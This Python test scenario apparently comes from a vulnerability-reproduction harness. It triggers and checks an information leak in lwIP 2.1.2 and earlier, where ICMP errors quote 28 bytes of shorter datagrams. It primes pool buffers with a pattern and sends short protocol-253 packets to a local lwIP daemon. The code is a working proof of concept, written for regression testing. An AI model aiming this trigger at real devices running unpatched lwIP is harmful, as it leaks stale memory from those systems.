# SPDX-License-Identifier: MIT
"""Row 20: lwIP's ICMP errors quote 28 bytes of a shorter datagram.

lwIP <= 2.1.2's icmp_send_response() (src/core/ipv4/icmp.c) allocates and
copies IP_HLEN + ICMP_DEST_UNREACH_DATASIZE (20 + 8) bytes of the offending
datagram whatever its length: for a datagram under 28 bytes the rest is
read from past its end - on lwipd the rest of the PBUF_POOL buffer the
driver received it into, bytes of the frame that buffer held before. 2.1.3
(upstream aca41b0b, bug #59364) copies at most p->tot_len.

Trigger, for K = 0..7 payload bytes: the pool's free buffers are primed
with a burst of frames of an unknown ethertype full of a pattern (lwIP drops
them unread; its memp free list is LIFO, so the next frame lands in one of
these buffers), then an IPv4 datagram of protocol 253 (no handler: lwIP
answers "protocol unreachable") with K payload bytes is written into the
TAP. Evidence: the quote of each ICMP error in the capture, compared with
the datagram sent and with the pattern.
"""
from scapy.all import ICMP, IP, Ether, IPerror, raw  # Debian python3-scapy

from lwipd import testing as harness
from zoo.scenarios import _h_net

PATTERN = b"STALE-POOL-BYTES"
PRIME_FRAMES = 8
PROTO = 253
ETH_EXPERIMENTAL = 0x88B5  # IEEE 802 local experimental: no stack's


def _datagram(env, k):
    return raw(IP(src=harness.check_safe(harness.HOST_IP),
                  dst=harness.check_safe(env.d.ip), id=0x2000 + k,
                  proto=PROTO) / bytes(range(0xB0, 0xB0 + k)))


def _quotes(frames):
    """{ip id of the quoted datagram: quote bytes} of lwIP's ICMP protocol
    unreachable errors."""
    out = {}
    for _, pkt, way in frames:
        if way != "tx" or ICMP not in pkt:
            continue
        if pkt[ICMP].type != 3 or pkt[ICMP].code != 2:
            continue
        quote = raw(pkt[ICMP].payload)[:len(pkt[IP]) - pkt[IP].ihl * 4 - 8]
        if IPerror in pkt:
            out[pkt[IPerror].id] = quote
    return out


def _counter(d, group, name):
    return d.stats()["lwip"][group][name]


def run(env):
    d = env.start()
    src = _h_net.host_mac(env)
    # Both sides learn each other's MAC first: no ARP in between later.
    if harness.ping(env.ns, d.ip, count=2)["received"] < 1:
        raise RuntimeError("lwIP does not answer ping")
    prime = raw(Ether(src=src, dst=d.mac, type=ETH_EXPERIMENTAL) /
                (PATTERN * (1500 // len(PATTERN))))
    sent = {}
    for k in range(8):
        before = _counter(d, "link", "recv")
        _h_net.send(env, [prime] * PRIME_FRAMES)
        harness.wait_for(
            lambda: _counter(d, "link", "recv") >= before + PRIME_FRAMES, 5,
            "lwIP to take the priming frames")
        dg = _datagram(env, k)
        sent[0x2000 + k] = dg
        xmit = _counter(d, "icmp", "xmit")
        frame = Ether(src=src, dst=d.mac, type=0x0800) / dg
        _h_net.send(env, [raw(frame)])
        harness.wait_for(lambda: _counter(d, "icmp", "xmit") > xmit, 5,
                         "lwIP's ICMP error for %d payload bytes" % k)
    quotes = _quotes(_h_net.captured(env))
    rows, leaked = [], []
    for ipid, dg in sorted(sent.items()):
        q = quotes.get(ipid)
        if q is None:
            raise RuntimeError("no ICMP error quoting datagram id %#x" % ipid)
        if q[:len(dg)] != dg[:len(q)]:
            raise RuntimeError("the quote of %#x is not the datagram" % ipid)
        extra = q[len(dg):]
        # What the buffer's earlier frame held at the same place.
        start = 14 + len(dg)
        stale = prime[start:start + len(extra)]
        rows.append({"payload_bytes": len(dg) - 20, "quote_bytes": len(q),
                     "past_end": extra.hex(),
                     "pattern_there": bool(extra) and extra == stale})
        if extra:
            leaked.append(extra == stale)
    evidence = {"quotes": rows, "pattern": PATTERN.decode(),
                "icmp": d.stats()["lwip"]["icmp"]}
    if leaked:
        return env.outcome(True, "%d of 8 ICMP errors quote bytes past the "
                           "datagram, %d of them the pattern of an earlier "
                           "frame" % (len(leaked), sum(leaked)), evidence)
    return env.outcome(False, "every ICMP error quotes exactly its datagram "
                       "(20-27 bytes)", evidence)
